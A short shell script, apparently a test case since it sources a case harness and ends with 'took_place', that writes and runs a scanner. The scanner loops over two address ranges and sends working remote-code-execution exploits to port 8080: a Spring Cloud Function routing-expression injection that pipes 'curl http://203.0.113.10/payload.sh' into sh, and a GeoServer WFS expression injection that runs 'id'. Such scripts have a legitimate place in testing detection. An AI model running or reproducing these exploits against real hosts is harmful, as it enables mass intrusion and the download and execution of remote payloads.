#!/bin/sh
. /opt/case/case.sh

cat >/tmp/sp.sh <<'END'
x='T(java.lang.Runtime).getRuntime().exec("curl -s http://203.0.113.10/payload.sh|sh")'
for n in $(seq 1 40); do
    for h in 10.77.0.$n 203.0.113.$n; do
        curl -s -m 0.4 -o /dev/null -X POST -H "spring.cloud.function.routing-expression: $x" -d a http://$h:8080/functionRouter
        curl -s -m 0.4 -o /dev/null "http://$h:8080/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'id')"
    done
done
exit 0
END
bash /tmp/sp.sh
took_place
